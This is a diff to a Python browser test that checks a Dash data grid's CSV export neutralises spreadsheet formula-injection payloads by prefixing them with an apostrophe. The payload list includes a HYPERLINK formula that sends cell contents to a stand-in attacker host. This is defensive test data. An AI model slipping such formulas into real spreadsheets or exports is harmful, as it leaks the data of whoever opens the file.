@@ -9,8 +9,10 @@ from __future__ import annotations
 
 import csv
 import io
+import os
 import socket
-import threading
+import subprocess
+import sys
 import time
 import urllib.request
 import zipfile
@@ -22,6 +24,7 @@ import pytest
 
 from medtower.spreadsheet import csv_text, safe_cell, safe_frame, text_only_workbook
 from tests.chromium import CHROMIUM, CHROMIUM_ARGS, need_chromium
+from tests.signin import add_user, signed_in_page
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -96,44 +99,64 @@ def _free_port() -> int:
         return int(s.getsockname()[1])
 
 
+# The real app with one extra page: the app's own data_grid over the payloads. In a process of its own:
+# Dash gives the callbacks registered at import (the grid's export) to the first app of a process only.
+_APP = """
+import io
+import sys
+import dash
+import pandas as pd
+from dashboards import components
+from dashboards.app import create_app
+from medtower.settings import Settings
+
+frame = pd.read_json(io.StringIO(sys.argv[3]), orient="split")
+app = create_app(Settings(data_dir=sys.argv[1], planner_emails=[]))
+dash.register_page("probe", path="/probe", layout=components.data_grid("probe", frame))
+app.run(host="127.0.0.1", port=int(sys.argv[2]), debug=False)
+"""
+
+
 def test_grid_csv_download_in_chromium_is_neutralised(tmp_path: Path) -> None:
     need_chromium()
-    from dash import Dash
     from playwright.sync_api import sync_playwright
-    from werkzeug.serving import make_server
-
-    from dashboards import components
 
     root = Path(__file__).resolve().parents[2]
-    app = Dash(__name__, assets_folder=str(root / "dashboards" / "assets"))
-    app.layout = components.data_grid("probe", _frame())
+    add_user(tmp_path / "data")
     port = _free_port()
-    server = make_server("127.0.0.1", port, app.server, threaded=True)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
+    log = open(tmp_path / "app.log", "wb")  # noqa: SIM115 - closed below
+    proc = subprocess.Popen(
+        [sys.executable, "-c", _APP, str(tmp_path / "data"), str(port), _frame().to_json(orient="split")],
+        cwd=root,
+        env={**os.environ, "PYTHONPATH": str(root)},
+        stdout=log,
+        stderr=subprocess.STDOUT,
+    )
     try:
-        deadline = time.monotonic() + 20
-        for _ in range(100):
+        deadline = time.monotonic() + 60
+        for _ in range(300):
             try:
-                urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2).close()
+                urllib.request.urlopen(f"http://127.0.0.1:{port}/probe", timeout=2).close()
                 break
             except OSError:
-                if time.monotonic() > deadline:
-                    raise
+                if time.monotonic() > deadline or proc.poll() is not None:
+                    raise AssertionError((tmp_path / "app.log").read_text()[-3000:]) from None
                 time.sleep(0.2)
         with sync_playwright() as pw:
             browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
             try:
-                page = browser.new_page(accept_downloads=True)
-                page.goto(f"http://127.0.0.1:{port}/")
-                page.wait_for_selector(".ag-row", timeout=20_000)
-                with page.expect_download(timeout=20_000) as info:
+                page = signed_in_page(browser, f"http://127.0.0.1:{port}", accept_downloads=True)
+                page.goto(f"http://127.0.0.1:{port}/probe")
+                page.wait_for_selector(".ag-row", timeout=30_000)
+                with page.expect_download(timeout=30_000) as info:
                     page.get_by_text("Export CSV").click()
                 text = Path(info.value.path()).read_bytes().decode("utf-8-sig")
             finally:
                 browser.close()
     finally:
-        server.shutdown()
+        proc.terminate()
+        proc.wait(timeout=30)
+        log.close()
     rows = list(csv.reader(io.StringIO(text, newline="")))
     by_customer = [r[0] for r in rows[1:]]
     assert by_customer[:6] == ["'" + p for p in PAYLOADS], by_customer
